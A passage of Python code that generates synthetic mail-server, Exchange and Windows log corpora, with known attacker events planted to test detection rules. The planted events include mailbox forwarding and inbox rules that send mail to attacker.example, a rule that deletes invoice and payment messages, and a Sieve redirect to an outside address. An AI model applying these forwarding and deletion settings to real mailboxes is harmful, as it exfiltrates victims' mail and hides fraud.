                             ("OWAEnabled", "True"), ("PopEnabled", "False"), ("ImapEnabled", "False")])
        if r < 0.65:
            return self.row(ts, admin, "New-MoveRequest", obj,
                            [("Identity", user), ("TargetDatabase", "DB%02d" % rng.randint(1, 12)),
                             ("BadItemLimit", "10"), ("BatchName", "Migration %d" % rng.randint(1, 40))])
        if r < 0.80:
            return self.row(ts, "%s/Users/%s" % (DOMAIN, user), "New-InboxRule", user,
                            [("Mailbox", user), ("Name", "Newsletters"),
                             ("From", "news@example.com;digest@example.net"),
                             ("MoveToFolder", "%s:\\Newsletters" % user), ("StopProcessingRules", "True")])
        if r < 0.90:
            return self.row(ts, admin, "Set-DistributionGroup", "%s/Groups/DL-%s" % (DOMAIN, user),
                            [("Identity", "DL-%s" % user), ("RequireSenderAuthenticationEnabled", "True"),
                             ("ManagedBy", "%s;%s" % (user, rng.choice(self.users)))])
        if r < 0.97:
            return self.row(ts, "NT AUTHORITY\\SYSTEM (MSExchangeHMHost)", "Set-MailboxDatabase",
                            "DB%02d" % rng.randint(1, 12),
                            [("Identity", "DB%02d" % rng.randint(1, 12)), ("CircularLoggingEnabled", "False")])
        return self.row(ts, admin, "Set-CASMailbox", obj,
                        [("Identity", user), ("ImapEnabled", "True")], ok=False, error="The operation couldn't be performed because object '%s' "
                        "couldn't be found on 'DC01.%s'." % (user, DOMAIN))

    def plant(self, ts, unit):
        user = self.users[(unit * 5) % len(self.users)]
        obj = "%s/Users/%s" % (DOMAIN, user)
        admin = "%s/Users/Administrator" % DOMAIN
        me = "%s/Users/%s" % (DOMAIN, user)
        cases = [  # (rule, caller, cmdlet, params)
            (RULE_MBXFWD, admin, "Set-Mailbox",
             [("Identity", user), ("ForwardingSmtpAddress", "smtp:drop%d@attacker.example" % unit),
              ("DeliverToMailboxAndForward", "False")]),
            (RULE_MBXFWD, admin, "Set-Mailbox",
             [("Identity", user), ("ForwardingAddress", "ext-contact-%d" % unit)]),
            (RULE_RULEFWD, me, "New-InboxRule",
             [("Mailbox", user), ("Name", "."), ("ForwardTo", "out%d@attacker.example;b@attacker.example" % unit),
              ("StopProcessingRules", "True")]),
            (RULE_HIDING, me, "New-InboxRule",
             [("Mailbox", user), ("Name", ".."), ("SubjectContainsWords", "invoice;payment"),
              ("DeleteMessage", "True")]),
            (None, admin, "Set-Mailbox", [("Identity", user), ("DeliverToMailboxAndForward", "True")]),
            (None, me, "New-InboxRule", [("Mailbox", user), ("Name", "x"), ("MoveToFolder", "Projects"),
                                         ("MarkAsRead", "False")]),
            (None, admin, "Remove-InboxRule", [("Identity", "%s\\%s" % (user, "."))]),
        ]
        lines, exp = [], {}
        for i, (rule, caller, cmdlet, params) in enumerate(cases):
            lines.append(self.row(ts - i * 13, caller, cmdlet, obj if caller == admin else user, params))
            if rule:
                exp[rule] = exp.get(rule, 0) + 1
        return lines, exp

    def run(self, w, size):
        rng = self.rng
        w.add("#TYPE Selected.Microsoft.Exchange.Management.SystemConfigurationTasks.AdminAuditLogEvent\r")
        w.add(self.HEADER + "\r")
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        ts = BASE_EPOCH + 60 * 86400  # newest first, as Search-AdminAuditLog returns them
        expected = {RULE_MBXFWD: 0, RULE_RULEFWD: 0, RULE_HIDING: 0}
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, exp = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                for k, v in exp.items():
                    expected[k] += v
                next_unit += 1
                ts -= 120
            for _ in range(64):
                w.add(self.background(ts))
                ts -= rng.randint(0, 2)
        return expected


def part1_kinds():
    """The kinds of this section: name -> (factory(seed), writer class)."""
    return {
        "entra_signin": (lambda s: EntraSignin(s + 2, graph=False), Writer),
        "entra_signin_graph": (lambda s: EntraSignin(s + 2, graph=True), ArrayWriter),
        "entra_audit": (lambda s: EntraAudit(s + 3), Writer),
        "exchange_admin_audit": (lambda s: ExchangeAdminAudit(s + 4), Writer),
    }
# Speed corpora of the newer sources (no planted findings): MicrosoftGraphActivityLogs rows as
# JSON Lines (docs/formats/graph_activity.md) and Get-MessageTraceV2 | Export-Csv in the en-US
# culture (docs/formats/exchange_message_trace.md).

GRAPH_PATHS = ("/users/%s/messages", "/users/%s/mailFolders/inbox/messages", "/me/messages",
               "/me/mailFolders/sentitems/messages", "/users/%s/messages/AAMkAG%s/$value",
               "/users/%s", "/groups/%s/members", "/me/events", "/$batch")


class Graph(Common):
    def __init__(self, seed):
        Common.__init__(self, seed)
        self.apps = [self.guid() for _ in range(40)]
        self.uids = [self.guid() for _ in range(len(self.users))]

    def background(self, ts):
        rng = self.rng
        i = rng.randrange(len(self.users))
        upn = "%s@%s" % (self.users[i], DOMAIN)
        path = rng.choice(GRAPH_PATHS)
        if "%s" in path:
            path = path % ((upn,) if path.count("%s") == 1 else (upn, self.hexs(24)))
        app_only = rng.random() < 0.2
        rid = self.guid()
        query = "?$top=%d&$select=subject,from,receivedDateTime" % rng.choice((10, 50, 1000)) \
            if "messages" in path else ""
        return ('{"TimeGenerated":"%s.%07dZ","RequestId":"%s","OperationId":"%s",'
                '"ClientRequestId":"%s","ApiVersion":"v1.0","RequestMethod":"%s",'
                '"RequestUri":"https://graph.microsoft.com/v1.0%s%s","ResponseStatusCode":%d,'
                '"ResponseSizeBytes":%d,"DurationMs":%d,"AppId":"%s","ServicePrincipalId":"%s",'
                '"UserId":%s,"IPAddress":"%s","UserAgent":"%s","Scopes":%s,"Roles":%s,'
                '"Wids":"b79fbf4d-3ef9-4689-8143-76b194e85509","TokenIssuedAt":"%s.0000000Z",'
                '"SignInActivityId":"%s","ClientAuthMethod":%d,"IdentityProvider":'
                '"https://sts.windows.net/11111111-2222-3333-4444-555555555555/",'
                '"Location":"West Europe","AadTenantId":"11111111-2222-3333-4444-555555555555",'
                '"Type":"MicrosoftGraphActivityLogs"}') % (
            self.clock.iso(ts), rng.randrange(10000000), rid, rid, self.guid(),
            "GET" if rng.random() < 0.9 else "POST", path, query,
            rng.choice((200, 200, 200, 200, 404, 403, 429)), rng.randrange(200000),
            rng.randrange(1000000), rng.choice(self.apps), self.guid() if app_only else "",
            "null" if app_only else '"%s"' % self.uids[i],
            "203.0.113.%d" % rng.randrange(256) if rng.random() < 0.8
            else "2001:db8::%x" % rng.randrange(65536), rng.choice(UAS),
            "null" if app_only else '"Mail.Read Mail.ReadWrite offline_access User.Read"',
            '"Mail.Read User.Read.All"' if app_only else "null",
            self.clock.iso(ts - 300), self.hexs(22), rng.randrange(3))

    def run(self, w, size):
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(256):
                w.add(self.background(ts))
                ts += self.rng.random() < 0.5
        return {}


class WinEvent(Common):
    """Sentinel SecurityEvent and Event table rows as JSON Lines (docs/formats/windows_event.md):
    4624 logons, 4663 object access, Sysmon 1/11 rows; no rule reads them yet: no findings."""

    def row(self, ts):
        rng = self.rng
        user = rng.choice(self.users)
        host = "WS%04d.corp.example.org" % rng.randrange(500)
        t = "%s.%03dZ" % (self.clock.iso(ts), rng.randrange(1000))
        head = ('{"TenantId":"11111111-2222-3333-4444-555555555555","SourceSystem":"OpsManager",'
                '"TimeGenerated":"%s","Computer":"%s",' % (t, host))
        pick = rng.random()
        if pick < 0.6:
            return head + (
                '"EventID":4624,"Type":"SecurityEvent","EventSourceName":'
                '"Microsoft-Windows-Security-Auditing","Channel":"Security","Task":12544,'
                '"Level":"8","Activity":"4624 - An account was successfully logged on.",'
                '"Account":"CORP\\\\%s","AccountType":"User","AuthenticationPackageName":"Kerberos",'
                '"IpAddress":"10.%d.%d.%d","IpPort":"%d","LogonProcessName":"Kerberos",'
                '"LogonType":"3","LogonTypeName":"3 - Network","ProcessId_string":"0x0",'
                '"LogonGuid_string":"%s","SubjectUserSid":"S-1-0-0","SubjectUserName":"-",'
                '"SubjectDomainName":"-","TargetUserName":"%s","TargetDomainName":"CORP",'
                '"TargetLogonId":"0x%x","WorkstationName":"-","EventOriginId":"%s"}') % (
                user, rng.randrange(256), rng.randrange(256), rng.randrange(256),
                rng.randrange(49152, 65536), self.guid(), user, rng.getrandbits(32), self.guid())
        if pick < 0.8:
            return head + (
                '"EventID":4663,"Type":"SecurityEvent","EventSourceName":'
                '"Microsoft-Windows-Security-Auditing","Channel":"Security","Task":12800,'
                '"Activity":"4663 - An attempt was made to access an object.",'
                '"Account":"CORP\\\\%s","SubjectUserName":"%s","SubjectDomainName":"CORP",'
                '"ObjectType":"File","ObjectName":"C:\\\\Users\\\\%s\\\\Documents\\\\%s.docx",'
                '"AccessList":"%%%%4416","ProcessName":"C:\\\\Windows\\\\explorer.exe",'
                '"EventOriginId":"%s"}') % (user, user, user, self.hexs(8), self.guid())
        return head + (
            '"Source":"Microsoft-Windows-Sysmon","EventLog":"Microsoft-Windows-Sysmon/Operational",'
            '"EventID":11,"Type":"Event","EventLevelName":"Information",'
            '"UserName":"CORP\\\\%s","RenderedDescription":"File created",'
            '"Image":"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE",'
            '"TargetFilename":"C:\\\\Users\\\\%s\\\\AppData\\\\Local\\\\Temp\\\\%s.tmp",'
            '"ProcessGuid":"{%s}","ProcessId_dynamic":"%d","UtcTime":"%s","RuleName":"-"}') % (
            user, user, self.hexs(8), self.guid(), rng.randrange(65536), t)

    def run(self, w, size):
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(256):
                w.add(self.row(ts))
                ts += self.rng.random() < 0.3
        return {}


class Winlogbeat(Common):
    """Winlogbeat 8 NDJSON (docs/formats/windows_event.md, Winlogbeat): Security 4624 and 4663,
    Sysmon 1 and 11, with the ECS members Winlogbeat adds; no findings planted."""

    def head(self, ts, code, channel, provider, host):
        rng = self.rng
        t = "%s.%03dZ" % (self.clock.iso(ts), rng.randrange(1000))
        return ('{"@timestamp":"%s","agent":{"type":"winlogbeat","version":"8.12.0"},'
                '"ecs":{"version":"8.0.0"},"host":{"name":"%s"},"event":{"code":"%d",'
                '"kind":"event","provider":"%s","created":"%s"},"log":{"level":"information"},'
                '"winlog":{"channel":"%s","event_id":"%d","provider_name":"%s",'
                '"record_id":%d,"computer_name":"%s","api":"wineventlog","event_data":{') % (
                t, host.split(".")[0], code, provider, t, channel, code, provider,
                rng.getrandbits(31), host)

    def row(self, ts):
        rng = self.rng
        user = rng.choice(self.users)
        host = "WS%04d.corp.example.org" % rng.randrange(500)
        sec, sysmon = ("Security", "Microsoft-Windows-Security-Auditing"), (
            "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
        pick = rng.random()
        if pick < 0.5:
            return self.head(ts, 4624, sec[0], sec[1], host) + (
                '"SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-",'
                '"TargetUserName":"%s","TargetDomainName":"CORP","TargetLogonId":"0x%x",'
                '"LogonType":"3","LogonProcessName":"Kerberos","AuthenticationPackageName":'
                '"Kerberos","WorkstationName":"-","IpAddress":"10.%d.%d.%d","IpPort":"%d"}}}') % (
                user, rng.getrandbits(32), rng.randrange(256), rng.randrange(256),
                rng.randrange(256), rng.randrange(49152, 65536))
        if pick < 0.7:
            return self.head(ts, 4663, sec[0], sec[1], host) + (
                '"SubjectUserName":"%s","SubjectDomainName":"CORP","SubjectLogonId":"0x%x",'
                '"ObjectServer":"Security","ObjectType":"File","ObjectName":'
                '"C:\\\\Users\\\\%s\\\\Documents\\\\%s.docx","AccessList":"%%%%4416",'
                '"AccessMask":"0x1","ProcessId":"0x%x","ProcessName":'
                '"C:\\\\Windows\\\\explorer.exe"}}}') % (
                user, rng.getrandbits(24), user, self.hexs(8), rng.randrange(65536))
        if pick < 0.85:
            return self.head(ts, 1, sysmon[0], sysmon[1], host) + (
                '"RuleName":"-","UtcTime":"%s","ProcessGuid":"{%s}","ProcessId":"%d",'
                '"Image":"C:\\\\Windows\\\\System32\\\\svchost.exe","CommandLine":'
                '"C:\\\\Windows\\\\system32\\\\svchost.exe -k netsvcs -p -s %s",'
                '"CurrentDirectory":"C:\\\\Windows\\\\system32\\\\","User":'
                '"NT AUTHORITY\\\\SYSTEM","IntegrityLevel":"System","ParentImage":'
                '"C:\\\\Windows\\\\System32\\\\services.exe"}}}') % (
                self.clock.iso(ts).replace("T", " ")[:19], self.guid(), rng.randrange(65536),
                self.hexs(6))
        return self.head(ts, 11, sysmon[0], sysmon[1], host) + (
            '"RuleName":"-","UtcTime":"%s","ProcessGuid":"{%s}","ProcessId":"%d","Image":'
            '"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE",'
            '"TargetFilename":"C:\\\\Users\\\\%s\\\\AppData\\\\Local\\\\Temp\\\\%s.tmp",'
            '"CreationUtcTime":"%s","User":"CORP\\\\%s"}}}') % (
            self.clock.iso(ts).replace("T", " ")[:19], self.guid(), rng.randrange(65536), user,
            self.hexs(8), self.clock.iso(ts).replace("T", " ")[:19], user)

    def run(self, w, size):
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(256):
                w.add(self.row(ts))
                ts += self.rng.random() < 0.3
        return {}


STATUSES = ("Delivered",) * 8 + ("FilteredAsSpam", "Failed", "Expanded", "Pending")


class MessageTrace(Common):
    def us_date(self, sec):
        t = time.gmtime(sec)
        hour = t.tm_hour % 12 or 12
        return "%d/%d/%d %d:%02d:%02d %s" % (t.tm_mon, t.tm_mday, t.tm_year, hour, t.tm_min,
                                            t.tm_sec, "AM" if t.tm_hour < 12 else "PM")

    def background(self, ts):
        rng = self.rng
        sender = "%s@%s" % (rng.choice(self.users), DOMAIN)
        outbound = rng.random() < 0.5
        rcpt = "%s@example.org" % self.hexs(6) if outbound else \
            "%s@%s" % (rng.choice(self.users), DOMAIN)
        subject = rng.choice(("Q1 payroll, final", "Re: lunch", 'Invoice ""March""', "FW: deck",
                              "Status report"))
        return '"%s","%s","%s","%s","%s","%s","%s","%d","<%s@MBX01.%s>","%s"' % (
            self.us_date(ts), sender, rcpt, subject, rng.choice(STATUSES),
            "203.0.113.%d" % rng.randrange(256) if outbound else "",
            "" if outbound else "198.51.100.%d" % rng.randrange(256),
            rng.randrange(1000, 5000000), self.hexs(16), DOMAIN, self.guid())

    def run(self, w, size):
        w.add('"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP",'
              '"Size","MessageId","MessageTraceId"')
        ts = BASE_EPOCH + 13 * 86400  # a day above 12 early: the file shows its order
        while w.size() < size:
            for _ in range(256):
                w.add(self.background(ts))
                ts += self.rng.random() < 0.3
        return {}


# ---------------------------------------------------------------------------------------------
# Syslog (docs/formats/syslog.md): the syslog of a mail server, Postfix, Dovecot and sshd lines
# interleaved, mixed RFC 3164 (rsyslog traditional, some with <PRI>), rsyslog ISO-8601 and RFC 5424
# lines, every one naming the host mx1. `syslog`: the Postfix messages and Dovecot sessions are those of the postfix and dovecot
# kinds' background (each message from its client= line to removed, each session from its login
# to its logout, about 40 of each open at a time), so the source's joins work as on a real server.
# `syslog-unjoined`: every Postfix line names a queue id of its own and every Dovecot login and
# logout a session of its own, so no message or session ever closes and the join tables stay full:
# the worst case of the joins' memory bound, not a server's log (the `syslog` kind before
# 2026-12-07 was this one).

SYSLOG_MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()


class Syslog(Common):
    """The line shapes, shared by both kinds; message() gives one (app, pid, text)."""

    def __init__(self, seed):
        Common.__init__(self, seed)
        self.pending = []
        self.host = "mx1"  # one name in every shape: the joins key on the host

    def sshd(self):
        rng = self.rng
        ip = "198.51.100.%d" % rng.randrange(1, 255)
        pid = rng.randrange(1000, 60000)
        if rng.random() < 0.5:
            return "sshd", pid, "Accepted publickey for %s from %s port %d ssh2" % (
                rng.choice(self.users), ip, rng.randrange(1024, 65535))
        return "sshd", pid, "Failed password for invalid user admin from %s port %d ssh2" % (
            ip, rng.randrange(1024, 65535))

    def message(self, ts):
        while not self.pending:
            kind = self.rng.randrange(8)
            if kind < 4:
                self.pf.background(self.pending, ts)
            elif kind < 6:
                self.dv.background(self.pending, ts)
            else:
                self.pending.append(self.sshd())
        return self.pending.pop(0)

    def line(self, ts):
        rng = self.rng
        app, pid, msg = self.message(ts)
        tm = time.gmtime(ts)
        shape = rng.random()
        if shape < 0.1:
            return "<%d>1 %s.%06d+01:00 %s %s %s - - %s" % (
                2 * 8 + 6, time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts + 3600)),
                rng.randrange(1000000), self.host, app, pid if pid else "-", msg)
        tag = "%s[%d]" % (app, pid) if pid else app
        if shape < 0.4:
            return "%s.%06d+01:00 mx1 %s: %s" % (
                time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts + 3600)),
                rng.randrange(1000000), tag, msg)
        pri = "<22>" if shape < 0.45 else ""
        return "%s%s %2d %s mx1 %s: %s" % (pri, SYSLOG_MONTHS[tm.tm_mon - 1], tm.tm_mday,
                                          time.strftime("%H:%M:%S", tm), tag, msg)

    def run(self, w, size):
        self.dv = MixedDovecot(self.rng.randrange(1 << 30))
        self.pf = MixedPostfix(self.rng.randrange(1 << 30))
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(64):
                w.add(self.line(ts))
                ts += 1 if self.rng.random() < 0.3 else 0
            while len(self.dv.open) > 60:
                self.dv.logout(self.pending, ts, self.dv.open.pop(0))
        while self.pending:  # the last lines of what was open, but no more than that
            w.add(self.line(ts))
        return {}


class SyslogUnjoined(Syslog):
    def __init__(self, seed):
        Syslog.__init__(self, seed)
        self.host = "mx1." + DOMAIN  # as the kind was before 2026-12-07

    def message(self, ts):
        rng = self.rng
        user = rng.choice(self.users) + "@" + DOMAIN
        ip = "198.51.100.%d" % rng.randrange(1, 255)
        qid = "%010X" % rng.getrandbits(40)
        pid = rng.randrange(1000, 60000)
        kind = rng.randrange(8)
        if kind == 0:
            return "postfix/smtpd", pid, "connect from unknown[%s]" % ip
        if kind == 1:
            return "postfix/smtpd", pid, ("%s: client=unknown[%s], sasl_method=PLAIN, "
                                          "sasl_username=%s" % (qid, ip, user))
        if kind == 2:
            return "postfix/qmgr", pid, "%s: from=<%s>, size=%d, nrcpt=1 (queue active)" % (
                qid, user, rng.randrange(2000, 90000))
        if kind == 3:
            return "postfix/smtp", pid, ("%s: to=<%s>, relay=mx.example.net[203.0.113.%d]:25, "
                                         "delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent "
                                         "(250 2.0.0 Ok: queued as %s)" % (
                                             qid, rng.choice(self.users) + "@example.net",
                                             rng.randrange(1, 255), "%010X" % rng.getrandbits(40)))
        if kind == 4:
            return "dovecot", None, ("imap-login: Login: user=<%s>, method=PLAIN, rip=%s, "
                                     "lip=192.0.2.25, mpid=%d, TLS, session=<%s>" % (
                                         user, ip, pid, self.hexs(16)))
        if kind == 5:
            return "dovecot", None, ("imap(%s)<%d><%s>: Disconnected: Logged out in=%d out=%d "
                                     "deleted=0 expunged=0 trashed=0 hdr_count=%d hdr_bytes=%d "
                                     "body_count=%d body_bytes=%d" % (
                                         user, pid, self.hexs(16), rng.randrange(100, 5000),
                                         rng.randrange(1000, 1 << 28), rng.randrange(100),
                                         rng.randrange(1 << 20), rng.randrange(100),
                                         rng.randrange(1 << 24)))
        return self.sshd()

    def run(self, w, size):
        ts = BASE_EPOCH
        while w.size() < size:
            for _ in range(64):
                w.add(self.line(ts))
                ts += 1 if self.rng.random() < 0.3 else 0
        return {}


# Dovecot lines of a mail server's syslog (docs/formats/dovecot.md): IMAP and POP3 sessions
# (login, a few mail_log events, logout with the default counters; about 40 open at a time, so the
# source's session table works), failed logins with their auth line, LMTP deliveries with Sieve
# fileinto; 70 % RFC 3164 lines, 30 % rsyslog ISO. Planted per 25 MB: an IMAP session of 1,500
# bodies and a POP3 session of 150 MB (rules/linux/dovecot.yml, bulk session), a master-user
# login, a ManageSieve PUTSCRIPT followed by a Sieve redirect to an outside address (the redirect
# rule and the pair). Background sessions read at most 30 bodies and never come from a new
# address; no background line is a master login, a PUTSCRIPT or a redirect.

DOVECOT_RULES = {"bulk": "979219cf-7975-4ab9-a07b-1b5f40a91b94",
                 "master": "1a61f395-083c-4200-ba7b-cc8e87ea37ca",
                 "redirect": "412de343-4a40-4ac1-ab3e-431ab90ba9ba",
                 "pair": "fe5dcfa7-f1f9-4008-8cf3-f3939f516359"}


class Dovecot(Common):
    def __init__(self, seed):
        Common.__init__(self, seed)
        rng = self.rng
        self.addr = ["%s@%s" % (u, DOMAIN) for u in self.users]
        self.home = ["198.51.100.%d" % rng.randrange(1, 255) for _ in self.users]
        self.open = []
        self.pid = 1000
        self.first = True

    def stamp(self, ts):
        tm = time.gmtime(ts)
        if self.rng.random() < 0.3 or self.first:  # an ISO first line gives the file its year
            self.first = False
            return "%s.%06d+00:00 mx1" % (time.strftime("%Y-%m-%dT%H:%M:%S", tm),
                                         self.rng.randrange(1000000))
        return "%s %2d %s mx1" % (SYSLOG_MONTHS[tm.tm_mon - 1], tm.tm_mday,
                                  time.strftime("%H:%M:%S", tm))

    def say(self, w, ts, msg):
        w.add("%s dovecot: %s" % (self.stamp(ts), msg))

    def login(self, w, ts, u, svc="imap", ip=None):
        self.pid += 1
        sess = self.hexs(16)
        self.say(w, ts, "%s-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=192.0.2.25, "
                 "mpid=%d, TLS, session=<%s>" % (svc, self.addr[u], ip or self.home[u],
                                                 self.pid, sess))
        return (u, svc, self.pid, sess)

    def logout(self, w, ts, s, bodies=None, body_bytes=None):
        rng = self.rng
        u, svc, pid, sess = s
        pre = "%s(%s)<%d><%s>: " % (svc, self.addr[u], pid, sess)
        if svc == "pop3":
            n = rng.randrange(31) if bodies is None else bodies
            b = n * rng.randrange(2000, 60000) if body_bytes is None else body_bytes
            self.say(w, ts, pre + "Disconnected: Logged out top=0/0, retr=%d/%d, del=0/%d, "
                     "size=%d" % (n, b, n, b + rng.randrange(1 << 20)))
            return
        n = rng.randrange(31) if bodies is None else bodies
        b = n * rng.randrange(2000, 60000) if body_bytes is None else body_bytes
        self.say(w, ts, pre + "Disconnected: Logged out in=%d out=%d deleted=%d expunged=%d "
                 "trashed=0 hdr_count=%d hdr_bytes=%d body_count=%d body_bytes=%d" % (
                     rng.randrange(100, 9000), b + rng.randrange(1000, 90000), rng.randrange(3),
                     rng.randrange(3), n, n * 700, n, b))

    def background(self, w, ts):
        rng = self.rng
        r = rng.random()
        if r < 0.25 or not self.open:
            self.open.append(self.login(w, ts, rng.randrange(len(self.users)),
                                        "pop3" if rng.random() < 0.2 else "imap"))
        elif r < 0.5:
            s = self.open.pop(rng.randrange(len(self.open)))
            self.logout(w, ts, s)
        elif r < 0.75:
            u, svc, pid, sess = rng.choice(self.open)
            act = rng.choice(("flag_change", "copy", "expunge", "save"))
            box = rng.choice(("INBOX", "Archive", "Sent", "Trash"))
            self.say(w, ts, "%s(%s)<%d><%s>: %s: box=%s, uid=%d, msgid=<%s@%s>, size=%d" % (
                svc, self.addr[u], pid, sess, act, box, rng.randrange(1, 90000), self.hexs(12),
                DOMAIN, rng.randrange(900, 90000)))
        elif r < 0.93:
            u = rng.randrange(len(self.users))
            tail = ("stored mail into mailbox 'INBOX'" if rng.random() < 0.8 else
                    "fileinto action: stored mail into mailbox 'Lists'")
            self.say(w, ts, "lmtp(%s)<%d><%s>: sieve: msgid=<%s@example.net>: %s" % (
                self.addr[u], rng.randrange(1000, 60000), self.hexs(22), self.hexs(14), tail))
        else:
            u = rng.randrange(len(self.users))
            ip = "203.%d.%d.%d" % (rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
            sess = self.hexs(16)
            self.say(w, ts, "imap-login: Disconnected (auth failed, 1 attempts in 2 secs): "
                     "user=<%s>, method=PLAIN, rip=%s, lip=192.0.2.25, TLS, session=<%s>" % (
                         self.addr[u], ip, sess))
            self.say(w, ts, "auth: passwd-file(%s,%s,<%s>): Password mismatch" % (
                self.addr[u], ip, sess))

    def plant(self, w, ts, unit):
        u = (unit * 7) % len(self.users)
        s = self.login(w, ts, u)
        self.logout(w, ts + 600, s, bodies=1500, body_bytes=90000000)
        s = self.login(w, ts, (u + 1) % len(self.users), "pop3")
        self.logout(w, ts + 300, s, bodies=900, body_bytes=150000000)
        self.say(w, ts, "auth: passdb(admin,203.0.113.66,master,<%s>): Master user logging in "
                 "as %s" % (self.hexs(16), self.addr[(u + 2) % len(self.users)]))
        v = (u + 3) % len(self.users)
        self.say(w, ts, "managesieve(%s)<%d><%s>: PUTSCRIPT \"fwd\"" % (
            self.addr[v], self.pid, self.hexs(16)))
        self.say(w, ts + 60, "lmtp(%s)<%d><%s>: sieve: msgid=<%s@example.net>: forwarded to "
                 "<drop%d@attacker.example>" % (self.addr[v], self.pid, self.hexs(22),
                                                self.hexs(14), unit))

    def run(self, w, size):
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit = 0
        ts = BASE_EPOCH
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                self.plant(w, ts, next_unit)
                next_unit += 1
            for _ in range(64):
                self.background(w, ts)
                ts += 1 if rng.random() < 0.3 else 0
            while len(self.open) > 60:
                self.logout(w, ts, self.open.pop(0))
        return {DOVECOT_RULES["bulk"]: 2 * next_unit, DOVECOT_RULES["master"]: next_unit,
                DOVECOT_RULES["redirect"]: next_unit, DOVECOT_RULES["pair"]: next_unit}


# Postfix lines of a mail server's syslog (docs/formats/postfix.md): inbound messages from outside
# senders through postscreen and smtpd (client, cleanup, qmgr, an LMTP delivery to each local
# recipient, some through an alias with orig_to, removed), submissions of SASL users from their
# own addresses relayed over SMTP to outside recipients, cron mail injected by pickup and
# delivered locally, bounces of a few, SASL failures from random addresses, connect/disconnect
# lines and daemons read no further (anvil); about 40 messages open at a time, interleaved. 70 %
# RFC 3164 lines, 30 % rsyslog ISO. Planted per 25 MB (rules/linux/postfix.yml): two local
# recipients rewritten by aliases to one outside address and relayed there (the forwarding rule
# twice, the fan-in once), a message injected by pickup relayed to an outside address (the pickup
# rule), 11 SASL failures from one address then a submission from it (the SASL rule), 21
# messages of one user to one outside recipient within a minute (the bulk rule). No background
# line has orig_to on an SMTP delivery, background SASL failures come from random addresses, and
# a user sends at most a few messages an hour to one recipient.

POSTFIX_RULES = {"forward": "245562bc-a538-41c1-a87c-1def7ac722f4",
                 "pickup": "0789e171-4194-4438-a3a2-21555dba4cc3",
                 "sasl": "1de48d86-f967-43fb-814b-06ad36ae1f1e",
                 "bulk": "19101529-bd43-4124-9aad-e952b8878c0c",
                 "fanin": "261df430-3c5e-4e11-a184-acc9775a2d3a"}


class Postfix(Common):
    def __init__(self, seed):
        Common.__init__(self, seed)
        rng = self.rng
        self.addr = ["%s@%s" % (u, DOMAIN) for u in self.users]
        self.home = ["198.51.100.%d" % rng.randrange(1, 255) for _ in self.users]
        self.open = []  # [qid, steps left] of messages in flight
        self.pid = 1000
        self.first = True

    def stamp(self, ts):
        tm = time.gmtime(ts)
        if self.rng.random() < 0.3 or self.first:  # an ISO first line gives the file its year
            self.first = False
            return "%s.%06d+00:00 mx1" % (time.strftime("%Y-%m-%dT%H:%M:%S", tm),
                                         self.rng.randrange(1000000))
        return "%s %2d %s mx1" % (SYSLOG_MONTHS[tm.tm_mon - 1], tm.tm_mday,
                                  time.strftime("%H:%M:%S", tm))

    def say(self, w, ts, daemon, msg):
        self.pid += 1
        w.add("%s postfix/%s[%d]: %s" % (self.stamp(ts), daemon, 1000 + self.pid % 50000, msg))

    def qid(self):
        return "%010X" % self.rng.getrandbits(40)

    def inbound(self, ts):
        rng = self.rng
        q, ip = self.qid(), "203.0.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
        host = "mail%d.sender%d.example" % (rng.randrange(9), rng.randrange(500))
        lines = [("postscreen", "CONNECT from [%s]:%d to [192.0.2.25]:25" % (
                      ip, rng.randrange(1024, 65535))),
                 ("smtpd", "connect from %s[%s]" % (host, ip)),
                 ("smtpd", "%s: client=%s[%s]" % (q, host, ip)),
                 ("cleanup", "%s: message-id=<%s@%s>" % (q, self.hexs(16), host)),
                 ("qmgr", "%s: from=<news@%s>, size=%d, nrcpt=1 (queue active)" % (
                     q, host, rng.randrange(2000, 200000)))]
        u = rng.randrange(len(self.users))
        orig = (", orig_to=<team%d@%s>" % (rng.randrange(20), DOMAIN)) if rng.random() < 0.1 else ""
        lines.append(("lmtp", "%s: to=<%s>%s, relay=mx1.%s[private/dovecot-lmtp], delay=%.1f, "
                      "delays=0.1/0/0/0.%d, dsn=2.0.0, status=sent (250 2.0.0 <%s> %s Saved)" % (
                          q, self.addr[u], orig, DOMAIN, rng.random() * 3, rng.randrange(10),
                          self.addr[u], self.hexs(22))))
        lines.append(("qmgr", "%s: removed" % q))
        lines.append(("smtpd", "disconnect from %s[%s] ehlo=1 mail=1 rcpt=1 data=1 quit=1 "
                      "commands=5" % (host, ip)))
        return lines

    def submission(self, ts, u=None, to=None, ip=None):
        rng = self.rng
        u = rng.randrange(len(self.users)) if u is None else u
        ip = ip or self.home[u]
        to = to or "%s@partner%d.example" % (rng.choice(self.users), rng.randrange(300))
        q = self.qid()
        return [("submission/smtpd", "connect from unknown[%s]" % ip),
                ("submission/smtpd", "%s: client=unknown[%s], sasl_method=PLAIN, sasl_username=%s"
                 % (q, ip, self.addr[u])),
                ("cleanup", "%s: message-id=<%s@%s>" % (q, self.hexs(16), DOMAIN)),
                ("qmgr", "%s: from=<%s>, size=%d, nrcpt=1 (queue active)" % (
                    q, self.addr[u], rng.randrange(2000, 90000))),
                ("smtp", "%s: to=<%s>, relay=mx.%s[203.0.113.%d]:25, delay=1.2, "
